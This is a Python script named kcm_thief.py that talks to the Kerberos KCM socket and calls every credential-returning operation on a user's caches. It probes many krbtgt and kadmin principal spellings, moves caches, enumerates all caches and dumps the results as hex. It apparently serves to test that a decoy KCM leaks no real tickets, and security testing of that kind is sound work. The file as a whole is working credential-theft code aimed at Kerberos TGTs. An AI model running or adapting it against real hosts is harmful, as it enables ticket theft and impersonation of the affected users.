#!/usr/bin/python3 -B
# SPDX-License-Identifier: GPL-3.0-or-later
"""Every operation of KCM that can return a credential, on every cache of a
uid, as raw bytes: a line "OPERATION STATUS HEX" each. Runs inside a host.
Usage: kcm_thief.py CACHE REALM [SOCKET]; CACHE is a residual such as 1000."""
import socket
import struct
import sys

SOCKET = '/run/.heim_org.h5l.kcm-socket'
GEN_NEW, INITIALIZE, RETRIEVE, GET_PRINCIPAL = 3, 4, 7, 8
UUID_LIST, BY_UUID, REMOVE, MOVE, CACHE_UUIDS, CACHE_BY_UUID = (
    9, 10, 11, 17, 18, 19)
DEFAULT, CRED_LIST, REPLACE = 20, 13001, 13002
GET_TICKET, GET_INITIAL = 16, 15
# libkrb5's and Heimdal's flags, MIT's "cached only" bit, and none
FLAGS = (0, 0x03000001, 0x80000000, 0x01000000, 0x02000000)
# UNKNOWN PRINCIPAL SRV_INST SRV_HST SRV_XHST X500 SMTP ENTERPRISE MS_PRINCIPAL
TYPES = (0, 1, 2, 3, 4, 6, 7, 10, 0xffffff80)


class Kcm:
    def __init__(self, path=SOCKET):
        self.link = socket.socket(socket.AF_UNIX)
        self.link.settimeout(30)
        self.link.connect(path)

    def take(self, n):
        data = b''
        while len(data) < n:
            part = self.link.recv(n - len(data))
            if not part:
                raise ConnectionError('closed')
            data += part
        return data

    def call(self, op, body=b''):
        """(status, result); the status is signed as libkrb5's are."""
        message = struct.pack('>BBH', 2, 0, op) + body
        self.link.sendall(struct.pack('>I', len(message)) + message)
        length, code = struct.unpack('>II', self.take(8))
        if code != 0:
            return struct.unpack('>i', struct.pack('>I', code))[0], b''
        data = self.take(length)
        return struct.unpack('>i', data[:4])[0], data[4:]


def counted(data):
    return struct.pack('>I', len(data)) + data


def principal(kind, realm, *components):
    return struct.pack('>II', kind, len(components)) + b''.join(
        counted(text.encode() if isinstance(text, str) else text)
        for text in (realm, *components))


def match(server):
    """A match credential (MIT's k5_marshal_mcred): the server and no more."""
    return (struct.pack('>I', 2) + server + struct.pack('>IIII', 0, 0, 0, 0)
            + b'\0' + struct.pack('>I', 0))


def names(realm):
    """The TGT, and every other way to write a name of its key."""
    for kind in TYPES:
        for components in (('krbtgt', realm), ('KRBTGT', realm), ('krbtgt',),
                           (f'krbtgt/{realm}',), (f'krbtgt/{realm}@{realm}',),
                           (f'krbtgt\\/{realm}',), ('krbtgt', realm, ''),
                           ('', 'krbtgt', realm), (b'krbtgt\0', realm),
                           ('kadmin', 'changepw'), ('kadmin', 'admin'),
                           ('krbtgt', realm.split('.')[0]),
                           (f'CN=krbtgt,CN=Users,DC={realm}',)):
            yield principal(kind, realm, *components)
            yield principal(kind, '', *components)


def reads(kcm, cache, realm):
    """(operation, status, result) of every read there is."""
    name = cache.encode() + b'\0'
    yield 'GET_PRINCIPAL', *kcm.call(GET_PRINCIPAL, name)
    yield 'GET_CRED_LIST', *kcm.call(CRED_LIST, name)
    status, uuids = kcm.call(UUID_LIST, name)
    yield 'GET_CRED_UUID_LIST', status, uuids
    for at in range(0, len(uuids) - 15, 16):
        yield 'GET_CRED_BY_UUID', *kcm.call(BY_UUID,
                                            name + uuids[at:at + 16])
    for server in names(realm):
        for flags in FLAGS:
            yield 'RETRIEVE', *kcm.call(
                RETRIEVE, name + struct.pack('>I', flags) + match(server))
        yield 'GET_TICKET', *kcm.call(
            GET_TICKET, name + struct.pack('>II', 0, 0) + server)
        yield 'GET_INITIAL_TICKET', *kcm.call(
            GET_INITIAL, name + b'\0' + server + struct.pack('>I', 0))


def moves(kcm, cache, realm):
    """The same after the cache was moved, and after its list was written
    back: a decoy must not turn into the real thing by a round trip."""
    _, made = kcm.call(GEN_NEW)
    other = made.rstrip(b'\0').decode()
    status, _ = kcm.call(MOVE, f'{cache}\0{other}\0'.encode())
    yield 'MOVE_CACHE', status, b''
    yield from reads(kcm, other, realm)
    kcm.call(MOVE, f'{other}\0{cache}\0'.encode())
    yield from reads(kcm, cache, realm)


def main():
    cache, realm = sys.argv[1], sys.argv[2]
    kcm = Kcm(*sys.argv[3:4])
    for found in (reads, moves):
        for operation, status, result in found(kcm, cache, realm):
            print(operation, status, result.hex())
    status, uuids = kcm.call(CACHE_UUIDS)
    for at in range(0, len(uuids) - 15, 16):
        status, result = kcm.call(CACHE_BY_UUID, uuids[at:at + 16])
        print('GET_CACHE_BY_UUID', status, result.hex())
        seen = result.rstrip(b'\0').decode()
        print('GET_CRED_LIST', *(
            part if isinstance(part, int) else part.hex()
            for part in kcm.call(CRED_LIST, seen.encode() + b'\0')))


if __name__ == '__main__':
    main()
